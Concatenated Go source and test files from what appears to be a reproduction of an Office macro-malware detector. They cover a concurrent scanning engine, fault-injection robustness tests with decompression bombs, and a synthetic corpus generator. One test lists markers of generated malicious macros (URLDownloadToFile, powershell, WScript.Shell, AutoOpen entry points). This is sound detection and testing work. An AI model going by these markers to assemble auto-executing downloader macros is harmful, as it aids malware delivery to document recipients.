// the channel closes once all workers have drained. On cancellation
// workers stop promptly without consuming further input, and pending
// documents produce no result. The returned Stats is final once the
// result channel has closed.
func (e *Engine) Scan(ctx context.Context, in <-chan Document) (<-chan Result, *Stats) {
	out := make(chan Result, e.workers)
	stats := &Stats{}
	start := time.Now()

	// A single distributor tags documents with their input index so the
	// worker pool can emit in completion order without losing ordering
	// information.
	type indexed struct {
		doc   Document
		index int
	}
	feed := make(chan indexed)
	go func() {
		defer close(feed)
		i := 0
		for {
			select {
			case <-ctx.Done():
				return
			case doc, ok := <-in:
				if !ok {
					return
				}
				e.queued.Add(1)
				select {
				case feed <- indexed{doc: doc, index: i}:
					i++
				case <-ctx.Done():
					e.queued.Add(-1)
					return
				}
			}
		}
	}()

	var wg sync.WaitGroup
	for w := 0; w < e.workers; w++ {
		wg.Add(1)
		// pprof labels tag each worker goroutine so CPU/goroutine profiles
		// of a loaded process attribute scan work to the engine's pool.
		go pprof.Do(ctx, pprof.Labels("subsystem", "scan", "scan_worker", strconv.Itoa(w)),
			func(ctx context.Context) {
				defer wg.Done()
				for {
					select {
					case <-ctx.Done():
						return
					case item, ok := <-feed:
						if !ok {
							return
						}
						e.queued.Add(-1)
						res := e.scanOne(ctx, item.doc, item.index, stats)
						select {
						case out <- res:
						case <-ctx.Done():
							return
						}
					}
				}
			})
	}
	go func() {
		wg.Wait()
		atomic.StoreInt64(&stats.WallNS, time.Since(start).Nanoseconds())
		close(out)
	}()
	return out, stats
}

// ScanAll scans docs and returns one result per document in input order.
// It stops early (returning ctx.Err()) when ctx is canceled; per-document
// failures are reported in the results, not as the error.
func (e *Engine) ScanAll(ctx context.Context, docs []Document) ([]Result, *Stats, error) {
	stats := &Stats{}
	results := make([]Result, len(docs))
	start := time.Now()
	workers := e.workers
	if workers > len(docs) {
		workers = len(docs)
	}
	var next, claimed atomic.Int64
	next.Store(-1)
	e.queued.Add(int64(len(docs)))
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go pprof.Do(ctx, pprof.Labels("subsystem", "scan", "scan_worker", strconv.Itoa(w)),
			func(ctx context.Context) {
				defer wg.Done()
				for ctx.Err() == nil {
					i := int(next.Add(1))
					if i >= len(docs) {
						return
					}
					claimed.Add(1)
					e.queued.Add(-1)
					results[i] = e.scanOne(ctx, docs[i], i, stats)
				}
			})
	}
	wg.Wait()
	// On cancellation some documents were never claimed; return them so
	// the queue-depth gauge does not stay elevated forever.
	e.queued.Add(claimed.Load() - int64(len(docs)))
	stats.WallNS = time.Since(start).Nanoseconds()
	if err := ctx.Err(); err != nil {
		return nil, stats, err
	}
	return results, stats, nil
}

// scanOne runs the pipeline on one document under the retry policy and
// accumulates stats. Result.Timings accumulates across attempts — a
// document that failed twice and succeeded on the third try reports the
// stage time of all three passes, matching what the worker actually spent.
func (e *Engine) scanOne(ctx context.Context, doc Document, index int, stats *Stats) Result {
	e.busy.Add(1)
	defer e.busy.Add(-1)
	pol := e.policy.withDefaults()

	var docKey cache.Key
	if e.docs != nil {
		// The key is salted with the detector's feature-set identity, so a
		// cache shared across engine generations (model retrained on a new
		// channel layout) misses cleanly instead of serving stale verdicts.
		docKey = cache.KeyOfSalted(e.det.FeatureSetID(), doc.Data)
		if report, ok := e.docs.Get(docKey); ok {
			if e.traceSink != nil {
				tr := telemetry.NewTracer(doc.Name)
				tr.Root().Annotate("cache", "hit")
				tr.Finish()
				e.traceSink(tr)
			}
			atomic.AddInt64(&stats.Files, 1)
			atomic.AddInt64(&stats.CacheHits, 1)
			atomic.AddInt64(&stats.Macros, int64(len(report.Macros)))
			atomic.AddInt64(&stats.Skipped, int64(report.Skipped))
			e.telFiles.Add(1)
			e.telMacros.Add(int64(len(report.Macros)))
			res := Result{Index: index, Name: doc.Name, Report: report, CacheHit: true}
			e.auditResult(doc, res)
			return res
		}
	}

	var tr *telemetry.Tracer
	if e.traceSink != nil {
		tr = telemetry.NewTracer(doc.Name)
		ctx = telemetry.ContextWithTracer(ctx, tr)
	}

	var (
		report   *core.FileReport
		total    core.Timings
		err      error
		attempts int
	)
	for {
		attempts++
		var tm core.Timings
		report, tm, err = ScanOneCtx(ctx, e.det, doc.Data)
		total.Add(tm)
		atomic.AddInt64(&stats.ExtractNS, tm.ExtractNS)
		atomic.AddInt64(&stats.FeaturizeNS, tm.FeaturizeNS)
		atomic.AddInt64(&stats.ClassifyNS, tm.ClassifyNS)
		if err == nil || attempts > pol.MaxRetries ||
			!pol.Retryable(err) || ctx.Err() != nil {
			break
		}
		atomic.AddInt64(&stats.Retries, 1)
		backoff := pol.RetryBackoff << (attempts - 1)
		select {
		case <-ctx.Done():
		case <-time.After(backoff):
		}
	}
	if tr != nil {
		if attempts > 1 {
			tr.Root().Annotate("attempts", strconv.Itoa(attempts))
		}
		tr.Finish()
		e.traceSink(tr)
	}
	atomic.AddInt64(&stats.Files, 1)
	e.telFiles.Add(1)
	res := Result{Index: index, Name: doc.Name, Timings: total, Attempts: attempts}
	if err != nil {
		atomic.AddInt64(&stats.Errors, 1)
		res.Err = err
		res.Quarantined = hostile.ExhaustsBudget(err)
		if res.Quarantined {
			atomic.AddInt64(&stats.Quarantined, 1)
		}
	} else {
		res.Report = report
		if e.docs != nil {
			e.docs.Put(docKey, report)
		}
		if report.Degraded {
			atomic.AddInt64(&stats.Degraded, 1)
		}
		atomic.AddInt64(&stats.Macros, int64(len(report.Macros)))
		atomic.AddInt64(&stats.Skipped, int64(report.Skipped))
		e.telMacros.Add(int64(len(report.Macros)))
	}
	e.auditResult(doc, res)
	return res
}

// auditResult feeds one scan outcome into the engine's audit log, if any.
func (e *Engine) auditResult(doc Document, res Result) {
	if e.audit == nil {
		return
	}
	var fs core.FeatureSet
	if e.det != nil {
		fs = e.det.FeatureSet()
	}
	LogAudit(e.audit, doc, fs, res)
}

// LogAudit records one scan outcome in an audit log. The full event
// (triage, vector copies) is only built for documents the sampling
// filter keeps; sampled-out documents log a skeleton event that is never
// serialized but counts toward the logger's drop statistics. A nil
// logger is a no-op.
func LogAudit(a *telemetry.AuditLogger, doc Document, fs core.FeatureSet, res Result) {
	if a == nil {
		return
	}
	sha := HashDocument(doc.Data)
	if !a.ShouldSample(sha) {
		a.Log(&telemetry.AuditEvent{Doc: doc.Name, SHA256: sha})
		return
	}
	a.Log(BuildAuditEvent(doc.Name, sha, fs, res))
}

// HashDocument returns the hex SHA-256 of a document's bytes — the audit
// log's sampling and join key.
func HashDocument(data []byte) string {
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])
}

// BuildAuditEvent assembles the verdict audit record for one scan
// outcome: feature vectors and scores per macro, a triage summary
// (auto-exec, suspicious keywords, IOC count) computed from each macro's
// shared parse, stage timings, and the disposition flags. sha is
// HashDocument of the scanned bytes.
func BuildAuditEvent(name, sha string, fs core.FeatureSet, res Result) *telemetry.AuditEvent {
	ev := &telemetry.AuditEvent{
		Doc:         name,
		SHA256:      sha,
		TraceID:     res.TraceID,
		RequestID:   res.RequestID,
		FeatureSet:  fs.String(),
		Attempts:    res.Attempts,
		Quarantined: res.Quarantined,
		ExtractNS:   res.Timings.ExtractNS,
		FeaturizeNS: res.Timings.FeaturizeNS,
		ClassifyNS:  res.Timings.ClassifyNS,
	}
	if res.Err != nil {
		ev.Error = res.Err.Error()
		ev.ErrorClass = hostile.Classify(res.Err)
		return ev
	}
	report := res.Report
	ev.Format = report.Format
	ev.Obfuscated = report.Obfuscated()
	ev.Skipped = report.Skipped
	ev.Degraded = report.Degraded
	for _, m := range report.Macros {
		am := telemetry.AuditMacro{
			Module:      m.Module,
			Obfuscated:  m.Obfuscated,
			Score:       m.Score,
			SourceBytes: len(m.Source),
		}
		if m.Analysis != nil {
			am.Features = m.Analysis.Features(fs)
			triage := m.Analysis.Triage()
			am.AutoExec = triage.HasAutoExec()
			am.Suspicious = triage.Suspicious()
			am.IOCs = len(triage.IOCs())
			am.Folds = triage.Folds
		}
		ev.Macros = append(ev.Macros, am)
	}
	return ev
}
