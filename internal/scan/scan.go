// Package scan is the concurrent batch-scanning engine: a bounded
// worker pool that runs the paper's extract → featurize → classify
// pipeline (§IV) over a stream of Office documents. The pipeline is
// embarrassingly parallel across documents — the property MEADE-style
// mail-gateway deployments rely on — so throughput scales with
// GOMAXPROCS while per-file results stay identical to sequential
// Detector.ScanFile calls.
package scan

import (
	"context"
	"fmt"
	"runtime"
	"runtime/debug"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/core"
	"repro/internal/hostile"
)

// Document is one input to the engine.
type Document struct {
	// Name identifies the document in results (a path, usually).
	Name string
	// Data is the raw file content.
	Data []byte
}

// Result is the scan outcome for one document. Exactly one of Report and
// Err is set (a macro-free document reports extract.ErrNoMacros in Err).
type Result struct {
	// Index is the document's position in the input order.
	Index int
	// Name echoes the input document name.
	Name string
	// Report is the per-file classification report.
	Report *core.FileReport
	// Timings is the per-stage wall-clock attribution for this document
	// (extract / featurize / classify), valid even when Err is set for the
	// stages that ran.
	Timings core.Timings
	// Err is the extraction or classification failure, if any.
	Err error
	// Attempts is the number of pipeline attempts made: 1 normally,
	// more when the engine's retry policy re-ran a transient failure.
	Attempts int
	// Quarantined marks a document whose failure exhausted its resource
	// budget (decompression bomb, deadline overrun, limit breach).
	// Retrying such a document is pointless — it needs isolation and a
	// human, not another pass through the pipeline.
	Quarantined bool
}

// PanicError wraps a panic recovered while scanning one document, so a
// malformed input that trips a parser bug surfaces as a per-document error
// instead of taking down the whole process.
type PanicError struct {
	// Value is the recovered panic value.
	Value any
	// Stack is the goroutine stack captured at recovery.
	Stack []byte
}

// Error implements the error interface.
func (e *PanicError) Error() string {
	return fmt.Sprintf("scan: panic during scan: %v", e.Value)
}

// ScanOne scans a single document with panic isolation: a panic anywhere
// in the extract → featurize → classify pipeline is recovered and returned
// as a *PanicError. This is the entry point request-scoped callers (the
// HTTP daemon) use; Engine workers route through it too.
func ScanOne(det *core.Detector, data []byte) (*core.FileReport, core.Timings, error) {
	return ScanOneCtx(context.Background(), det, data)
}

// ScanOneCtx is ScanOne under a context: the context deadline becomes the
// document's processing deadline, enforced inside the parsing loops, so a
// hostile document cannot pin the calling goroutine past it.
func ScanOneCtx(ctx context.Context, det *core.Detector, data []byte) (report *core.FileReport, tm core.Timings, err error) {
	defer func() {
		if p := recover(); p != nil {
			report, err = nil, &PanicError{Value: p, Stack: debug.Stack()}
		}
	}()
	return det.ScanFileCtx(ctx, data)
}

// Policy is the engine's failure-handling policy.
type Policy struct {
	// MaxRetries is how many times a failed document is re-attempted
	// (0 = no retries). Only failures Retryable approves are retried;
	// budget exhaustion never is.
	MaxRetries int
	// RetryBackoff is the wait before the first retry, doubling per
	// attempt. Defaults to 50ms.
	RetryBackoff time.Duration
	// Retryable decides whether a failure is worth re-running. Defaults
	// to hostile.IsTransient (I/O-flavored errors only — parse failures
	// and budget exhaustion are deterministic and never retried).
	Retryable func(error) bool
}

func (p Policy) withDefaults() Policy {
	if p.RetryBackoff <= 0 {
		p.RetryBackoff = 50 * time.Millisecond
	}
	if p.Retryable == nil {
		p.Retryable = hostile.IsTransient
	}
	return p
}

// Stats aggregates a scan run. Counters are written with atomics while
// workers run; read them after the result channel has closed (Scan) or
// after the call returns (ScanAll), when they are final.
type Stats struct {
	// Files is the number of documents processed (including failures).
	Files int64
	// Macros is the number of significant macros classified.
	Macros int64
	// Skipped is the number of macros below the significance threshold.
	Skipped int64
	// Errors is the number of documents that failed to scan.
	Errors int64
	// Degraded is the number of documents scanned partially: corruption
	// or limits cost some streams, but surviving macros were classified.
	Degraded int64
	// Quarantined is the number of failed documents whose failure
	// exhausted the resource budget (bombs, deadline overruns) — the
	// subset of Errors that warrants isolation rather than a bug report.
	Quarantined int64
	// Retries is the number of re-attempts made under the retry policy.
	Retries int64
	// ExtractNS, FeaturizeNS and ClassifyNS are cumulative per-stage
	// wall-clock nanoseconds summed across workers (their sum can exceed
	// WallNS when workers run in parallel).
	ExtractNS   int64
	FeaturizeNS int64
	ClassifyNS  int64
	// WallNS is the elapsed wall-clock time of the whole run.
	WallNS int64
}

// FilesPerSec is the document throughput of the run.
func (s *Stats) FilesPerSec() float64 { return perSec(s.Files, s.WallNS) }

// MacrosPerSec is the classified-macro throughput of the run.
func (s *Stats) MacrosPerSec() float64 { return perSec(s.Macros, s.WallNS) }

func perSec(n, wallNS int64) float64 {
	if wallNS <= 0 {
		return 0
	}
	return float64(n) / (float64(wallNS) / float64(time.Second))
}

// Engine is a reusable concurrent batch scanner around a trained detector.
type Engine struct {
	det     *core.Detector
	workers int
	policy  Policy
}

// New returns an engine running at most workers concurrent scans
// (workers <= 0 means GOMAXPROCS).
func New(det *core.Detector, workers int) *Engine {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	return &Engine{det: det, workers: workers}
}

// Workers reports the engine's concurrency bound.
func (e *Engine) Workers() int { return e.workers }

// SetPolicy configures the engine's retry/quarantine policy. Call before
// Scan/ScanAll; the zero Policy (no retries, transient-only detection)
// is the default.
func (e *Engine) SetPolicy(p Policy) { e.policy = p }

// Scan consumes documents from in until it closes or ctx is canceled,
// scanning across the engine's workers. Results arrive on the returned
// channel in completion order (use Result.Index to recover input order);
// the channel closes once all workers have drained. On cancellation
// workers stop promptly without consuming further input, and pending
// documents produce no result. The returned Stats is final once the
// result channel has closed.
func (e *Engine) Scan(ctx context.Context, in <-chan Document) (<-chan Result, *Stats) {
	out := make(chan Result, e.workers)
	stats := &Stats{}
	start := time.Now()

	// A single distributor tags documents with their input index so the
	// worker pool can emit in completion order without losing ordering
	// information.
	type indexed struct {
		doc   Document
		index int
	}
	feed := make(chan indexed)
	go func() {
		defer close(feed)
		i := 0
		for {
			select {
			case <-ctx.Done():
				return
			case doc, ok := <-in:
				if !ok {
					return
				}
				select {
				case feed <- indexed{doc: doc, index: i}:
					i++
				case <-ctx.Done():
					return
				}
			}
		}
	}()

	var wg sync.WaitGroup
	for w := 0; w < e.workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-ctx.Done():
					return
				case item, ok := <-feed:
					if !ok {
						return
					}
					res := e.scanOne(ctx, item.doc, item.index, stats)
					select {
					case out <- res:
					case <-ctx.Done():
						return
					}
				}
			}
		}()
	}
	go func() {
		wg.Wait()
		atomic.StoreInt64(&stats.WallNS, time.Since(start).Nanoseconds())
		close(out)
	}()
	return out, stats
}

// ScanAll scans docs and returns one result per document in input order.
// It stops early (returning ctx.Err()) when ctx is canceled; per-document
// failures are reported in the results, not as the error.
func (e *Engine) ScanAll(ctx context.Context, docs []Document) ([]Result, *Stats, error) {
	stats := &Stats{}
	results := make([]Result, len(docs))
	start := time.Now()
	workers := e.workers
	if workers > len(docs) {
		workers = len(docs)
	}
	var next atomic.Int64
	next.Store(-1)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				i := int(next.Add(1))
				if i >= len(docs) {
					return
				}
				results[i] = e.scanOne(ctx, docs[i], i, stats)
			}
		}()
	}
	wg.Wait()
	stats.WallNS = time.Since(start).Nanoseconds()
	if err := ctx.Err(); err != nil {
		return nil, stats, err
	}
	return results, stats, nil
}

// scanOne runs the pipeline on one document under the retry policy and
// accumulates stats.
func (e *Engine) scanOne(ctx context.Context, doc Document, index int, stats *Stats) Result {
	pol := e.policy.withDefaults()
	var (
		report   *core.FileReport
		tm       core.Timings
		err      error
		attempts int
	)
	for {
		attempts++
		report, tm, err = ScanOneCtx(ctx, e.det, doc.Data)
		atomic.AddInt64(&stats.ExtractNS, tm.ExtractNS)
		atomic.AddInt64(&stats.FeaturizeNS, tm.FeaturizeNS)
		atomic.AddInt64(&stats.ClassifyNS, tm.ClassifyNS)
		if err == nil || attempts > pol.MaxRetries ||
			!pol.Retryable(err) || ctx.Err() != nil {
			break
		}
		atomic.AddInt64(&stats.Retries, 1)
		backoff := pol.RetryBackoff << (attempts - 1)
		select {
		case <-ctx.Done():
		case <-time.After(backoff):
		}
	}
	atomic.AddInt64(&stats.Files, 1)
	if err != nil {
		atomic.AddInt64(&stats.Errors, 1)
		quarantined := hostile.ExhaustsBudget(err)
		if quarantined {
			atomic.AddInt64(&stats.Quarantined, 1)
		}
		return Result{Index: index, Name: doc.Name, Timings: tm, Err: err,
			Attempts: attempts, Quarantined: quarantined}
	}
	if report.Degraded {
		atomic.AddInt64(&stats.Degraded, 1)
	}
	atomic.AddInt64(&stats.Macros, int64(len(report.Macros)))
	atomic.AddInt64(&stats.Skipped, int64(report.Skipped))
	return Result{Index: index, Name: doc.Name, Report: report, Timings: tm, Attempts: attempts}
}
