package scan

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"testing"

	"repro/internal/faultinject"
	"repro/internal/walker"
)

// TestScanTreeMatchesScanOne checks that a document scanned through the
// container walker produces the same report as the direct pipeline, and
// that a ZIP wrapper adds provenance without changing the verdict.
func TestScanTreeMatchesScanOne(t *testing.T) {
	det, docs := fixture(t)
	var doc Document
	for _, d := range docs {
		if rep, _, err := ScanOne(det, d.Data); err == nil && len(rep.Macros) > 0 {
			doc = d
			break
		}
	}
	if doc.Data == nil {
		t.Fatal("no fixture document produced macros")
	}

	direct, _, err := ScanOne(det, doc.Data)
	if err != nil {
		t.Fatal(err)
	}
	tds, degraded, err := ScanTree(context.Background(), det, doc.Data)
	if err != nil {
		t.Fatal(err)
	}
	if degraded || len(tds) != 1 || tds[0].Path != "" || tds[0].Err != nil {
		t.Fatalf("tree scan of plain document: degraded=%v docs=%+v", degraded, tds)
	}
	got, _ := json.Marshal(tds[0].Report.JSON())
	want, _ := json.Marshal(direct.JSON())
	if !bytes.Equal(got, want) {
		t.Fatalf("tree verdict diverged from direct scan:\n%s\n%s", got, want)
	}

	wrapped, err := faultinject.WrapZip(map[string][]byte{"inner.doc": doc.Data})
	if err != nil {
		t.Fatal(err)
	}
	tds, degraded, err = ScanTree(context.Background(), det, wrapped)
	if err != nil {
		t.Fatal(err)
	}
	if degraded || len(tds) != 1 || tds[0].Path != "inner.doc" {
		t.Fatalf("wrapped scan: degraded=%v docs=%+v", degraded, tds)
	}
	got, _ = json.Marshal(tds[0].Report.JSON())
	if !bytes.Equal(got, want) {
		t.Fatalf("wrapped verdict diverged from direct scan:\n%s\n%s", got, want)
	}
}

// TestScanTreeRootNotContainer surfaces the walker's typed rejection.
func TestScanTreeRootNotContainer(t *testing.T) {
	det, _ := fixture(t)
	_, _, err := ScanTree(context.Background(), det, []byte("not a container"))
	if err == nil {
		t.Fatal("expected error")
	}
	if !errors.Is(err, walker.ErrNotContainer) {
		t.Fatalf("err = %v", err)
	}
}
