package scan

import (
	"context"
	"errors"
	"testing"
	"time"

	"repro/internal/cfb"
	"repro/internal/core"
	"repro/internal/extract"
	"repro/internal/faultinject"
	"repro/internal/hostile"
	"repro/internal/ooxml"
	"repro/internal/ovba"
)

// perCaseCap bounds each mutation's wall clock. Generous because CI runs
// the matrix under -race, but far below what an unbounded bomb would take.
const perCaseCap = 15 * time.Second

// matrixLimits shrinks the budget so the bomb cases trip it quickly while
// valid documents (a few KB decompressed) pass untouched.
var matrixLimits = hostile.Limits{MaxDecompressedBytes: 2 << 20}

// acceptableScanError reports whether a scan failure is one of the typed
// outcomes the robustness contract allows: a hostile-taxonomy error or a
// recognized parser sentinel. Anything else (untyped fmt.Errorf soup,
// index-range text) fails the matrix.
func acceptableScanError(err error) bool {
	if hostile.Classify(err) != "" {
		return true
	}
	for _, sentinel := range []error{
		extract.ErrNoMacros,
		cfb.ErrNotCompoundFile,
		cfb.ErrCorrupt,
		cfb.ErrStreamNotFound,
		ovba.ErrBadContainer,
		ovba.ErrNoVBAStorage,
		ooxml.ErrNotZip,
		ooxml.ErrNoVBAPart,
		context.DeadlineExceeded,
	} {
		if errors.Is(err, sentinel) {
			return true
		}
	}
	return false
}

// TestCorruptionMatrix runs every fault-injection mutation class through
// the full scan pipeline and asserts the robustness contract: no panic, no
// hang past the wall-clock cap, and every outcome is either a (possibly
// degraded) verdict or a typed taxonomy error. Memory stays bounded by
// construction — the budget rejects output beyond matrixLimits, which the
// bomb sub-cases verify by demanding a quarantine-class failure.
func TestCorruptionMatrix(t *testing.T) {
	det, _ := fixture(t)
	det.SetLimits(matrixLimits)
	defer det.SetLimits(hostile.Limits{})

	cases, err := faultinject.All(11)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("corruption matrix: %d cases", len(cases))

	for _, c := range cases {
		c := c
		t.Run(c.Name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), perCaseCap)
			defer cancel()
			var (
				report  *core.FileReport
				scanErr error
			)
			done := make(chan struct{})
			go func() {
				defer close(done)
				report, _, scanErr = ScanOneCtx(ctx, det, c.Data)
			}()
			select {
			case <-done:
			case <-time.After(perCaseCap + 5*time.Second):
				t.Fatalf("hang: no result within %v", perCaseCap+5*time.Second)
			}

			if scanErr != nil {
				var pe *PanicError
				if errors.As(scanErr, &pe) {
					t.Fatalf("panic: %v\n%s", pe.Value, pe.Stack)
				}
				if !acceptableScanError(scanErr) {
					t.Fatalf("untyped failure: %v", scanErr)
				}
			} else if report == nil {
				t.Fatal("nil report with nil error")
			}

			// Class-specific expectations on the engineered cases.
			switch c.Name {
			case "valid-ole", "valid-ooxml":
				if scanErr != nil || report.Degraded {
					t.Fatalf("baseline must scan cleanly: err=%v degraded=%v",
						scanErr, report != nil && report.Degraded)
				}
			case "fat-cycle":
				if scanErr == nil {
					t.Fatal("FAT cycle must not scan cleanly")
				}
				if cl := hostile.Classify(scanErr); cl != "cycle" && cl != "limit" && cl != "malformed" {
					t.Fatalf("FAT cycle class = %q (%v)", cl, scanErr)
				}
			case "ovba-bomb", "zip-bomb-8MiB":
				if scanErr == nil || !hostile.ExhaustsBudget(scanErr) {
					t.Fatalf("bomb must exhaust the budget, got %v", scanErr)
				}
			case "partial-module-corruption":
				if scanErr != nil {
					t.Fatalf("partial corruption should degrade, not fail: %v", scanErr)
				}
				if !report.Degraded || len(report.Macros) != 1 {
					t.Fatalf("want degraded verdict on 1 surviving macro, got degraded=%v macros=%d",
						report.Degraded, len(report.Macros))
				}
			}
		})
	}
}

// TestRetryPolicy exercises the engine's bounded-retry path with an
// injected retryable classifier, and verifies budget exhaustion is
// quarantined without retries.
func TestRetryPolicy(t *testing.T) {
	det, _ := fixture(t)
	det.SetLimits(matrixLimits)
	defer det.SetLimits(hostile.Limits{})

	bomb, err := faultinject.DecompressionBomb()
	if err != nil {
		t.Fatal(err)
	}
	truncated := []byte{0xD0, 0xCF} // hopeless two-byte OLE stub

	engine := New(det, 2)
	engine.SetPolicy(Policy{
		MaxRetries:   2,
		RetryBackoff: time.Millisecond,
		// Treat structural corruption as retryable to observe the retry
		// accounting; budget exhaustion stays non-retryable regardless.
		Retryable: func(err error) bool { return !hostile.ExhaustsBudget(err) },
	})
	results, stats, err := engine.ScanAll(context.Background(), []Document{
		{Name: "bomb", Data: bomb.Data},
		{Name: "stub", Data: truncated},
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range results {
		switch r.Name {
		case "bomb":
			if !r.Quarantined || r.Attempts != 1 {
				t.Fatalf("bomb: quarantined=%v attempts=%d, want true/1", r.Quarantined, r.Attempts)
			}
		case "stub":
			if r.Quarantined || r.Attempts != 3 {
				t.Fatalf("stub: quarantined=%v attempts=%d, want false/3", r.Quarantined, r.Attempts)
			}
		}
	}
	if stats.Quarantined != 1 {
		t.Fatalf("stats.Quarantined = %d, want 1", stats.Quarantined)
	}
	if stats.Retries != 2 {
		t.Fatalf("stats.Retries = %d, want 2", stats.Retries)
	}
	if stats.Errors != 2 {
		t.Fatalf("stats.Errors = %d, want 2", stats.Errors)
	}
}

// TestDegradedStats verifies the engine counts partially extracted
// documents.
func TestDegradedStats(t *testing.T) {
	det, _ := fixture(t)
	c, err := faultinject.PartialCorruption()
	if err != nil {
		t.Fatal(err)
	}
	engine := New(det, 1)
	results, stats, err := engine.ScanAll(context.Background(), []Document{
		{Name: "partial", Data: c.Data},
	})
	if err != nil {
		t.Fatal(err)
	}
	if stats.Degraded != 1 {
		t.Fatalf("stats.Degraded = %d, want 1", stats.Degraded)
	}
	if results[0].Report == nil || !results[0].Report.Degraded {
		t.Fatal("result should carry a degraded report")
	}
}
