package corpus

import (
	"math/rand"
	"strings"

	"repro/internal/obfuscate"
)

// wildFormat models author and tooling diversity: real-world macros come
// from thousands of authors, editors and generators, so formatting habits
// (indentation, comment density, blank lines) vary wildly *independently
// of* whether the macro is obfuscated. The pass is applied to every
// generated macro — benign, malicious, obfuscated or plain — with
// parameters drawn from the same distribution, which prevents formatting
// channels from acting as class labels in the synthetic corpus (they do
// not in the paper's real-world corpus either).
func wildFormat(src string, rng *rand.Rand) string {
	// Indentation convention.
	mode := []obfuscate.IndentMode{
		obfuscate.IndentKeep, obfuscate.IndentKeep,
		obfuscate.IndentFlat, obfuscate.IndentTwo, obfuscate.IndentFour,
	}[rng.Intn(5)]
	out := obfuscate.Reindent(src, mode)

	// Comment-density habit: some authors strip comments, some sprinkle
	// extra notes.
	switch rng.Intn(4) {
	case 0:
		out = obfuscate.StripComments(out)
	case 1:
		out = insertAuthorComments(out, rng)
	}

	// Blank-line habit.
	if rng.Intn(3) == 0 {
		out = insertBlankLines(out, rng)
	}
	return out
}

// authorCommentPools mixes English, romanized and terse note styles.
var authorCommentPools = [][]string{
	commentPhrases,
	{"TODO fix later", "temp", "do not touch", "???", "old version below", "added 2016-03", "copied from template"},
	{"hapgye gyesan", "naeyong sujung", "jaryo mokrok hwakin", "summe pruefen", "daten laden", "bogoseo ilja"},
}

// insertAuthorComments adds occasional comment lines in one random style.
// It never splits a line-continuation sequence.
func insertAuthorComments(src string, rng *rand.Rand) string {
	pool := authorCommentPools[rng.Intn(len(authorCommentPools))]
	lines := strings.Split(src, "\n")
	out := make([]string, 0, len(lines)+4)
	for _, l := range lines {
		if rng.Intn(9) == 0 && !endsWithContinuation(out) {
			out = append(out, "' "+pool[rng.Intn(len(pool))])
		}
		out = append(out, l)
	}
	return strings.Join(out, "\n")
}

// insertBlankLines adds empty lines between statements, avoiding
// continuation breaks.
func insertBlankLines(src string, rng *rand.Rand) string {
	lines := strings.Split(src, "\n")
	out := make([]string, 0, len(lines)+8)
	for _, l := range lines {
		if rng.Intn(7) == 0 && !endsWithContinuation(out) {
			out = append(out, "")
		}
		out = append(out, l)
	}
	return strings.Join(out, "\n")
}

// endsWithContinuation reports whether the last emitted line ends in the
// VBA continuation marker, in which case nothing may be inserted after it.
func endsWithContinuation(lines []string) bool {
	if len(lines) == 0 {
		return false
	}
	return strings.HasSuffix(strings.TrimRight(lines[len(lines)-1], " \t"), "_")
}
