package corpus

import (
	"math/rand"
	"sort"
	"strings"
	"testing"

	"repro/internal/extract"
	"repro/internal/vba"
)

func TestBenignMacroStyles(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for _, style := range []Style{StyleDocumented, StyleRecorded, StyleDataHeavy, StyleDense, StyleFinancial} {
		src := BenignMacroStyled(rng, 1000, style)
		if len(src) < 1000 {
			t.Errorf("style %d: %d bytes, want >= 1000", style, len(src))
		}
		m := vba.Parse(src)
		if len(m.Procedures) == 0 {
			t.Errorf("style %d produced no parsable procedures", style)
		}
	}
}

func TestBenignMacroLengthTracking(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	for _, target := range []int{200, 1000, 5000, 15000} {
		src := BenignMacro(rng, target)
		// Identifier re-styling may shrink the text slightly below the
		// target after generation; allow 10% slack both ways.
		if len(src) < target*9/10 {
			t.Errorf("target %d: got %d", target, len(src))
		}
		if len(src) > target+2500 {
			t.Errorf("target %d: got %d (overshoot too large)", target, len(src))
		}
	}
}

func TestMaliciousMacroKinds(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	marks := map[MaliciousKind]string{
		KindDownloader: "URLDownloadToFile",
		KindDropper:    "Put #1",
		KindPowerShell: "powershell",
		KindWScript:    "WScript.Shell",
	}
	for kind, mark := range marks {
		src := MaliciousMacro(rng, kind)
		if !strings.Contains(src, mark) {
			t.Errorf("kind %d missing marker %q:\n%s", kind, mark, src)
		}
		m := vba.Parse(src)
		if len(m.Procedures) < 2 {
			t.Errorf("kind %d: %d procedures", kind, len(m.Procedures))
		}
		// Every malicious macro needs an auto-exec entry point.
		hasEntry := false
		for _, p := range m.Procedures {
			switch strings.ToLower(p.Name) {
			case "autoopen", "document_open", "workbook_open":
				hasEntry = true
			}
		}
		if !hasEntry {
			t.Errorf("kind %d: no auto-exec entry point", kind)
		}
	}
}

func TestGenerateMacrosCounts(t *testing.T) {
	spec := SmallSpec()
	d := GenerateMacros(spec)
	var benign, benignObf, mal, malObf int
	for _, m := range d.Macros {
		if m.Malicious {
			mal++
			if m.Obfuscated {
				malObf++
			}
		} else {
			benign++
			if m.Obfuscated {
				benignObf++
			}
		}
	}
	if benign != spec.BenignMacros {
		t.Errorf("benign = %d, want %d", benign, spec.BenignMacros)
	}
	if benignObf != spec.BenignObfuscated {
		t.Errorf("benign obf = %d, want %d", benignObf, spec.BenignObfuscated)
	}
	if mal != spec.MaliciousMacros {
		t.Errorf("malicious = %d, want %d", mal, spec.MaliciousMacros)
	}
	if malObf != spec.MaliciousObfuscated {
		t.Errorf("malicious obf = %d, want %d", malObf, spec.MaliciousObfuscated)
	}
}

func TestGenerateMacrosUniqueAndSignificant(t *testing.T) {
	d := GenerateMacros(SmallSpec())
	seen := map[[32]byte]bool{}
	for i, m := range d.Macros {
		fp := extract.Fingerprint(m.Source)
		if seen[fp] {
			t.Errorf("macro %d duplicates an earlier macro", i)
		}
		seen[fp] = true
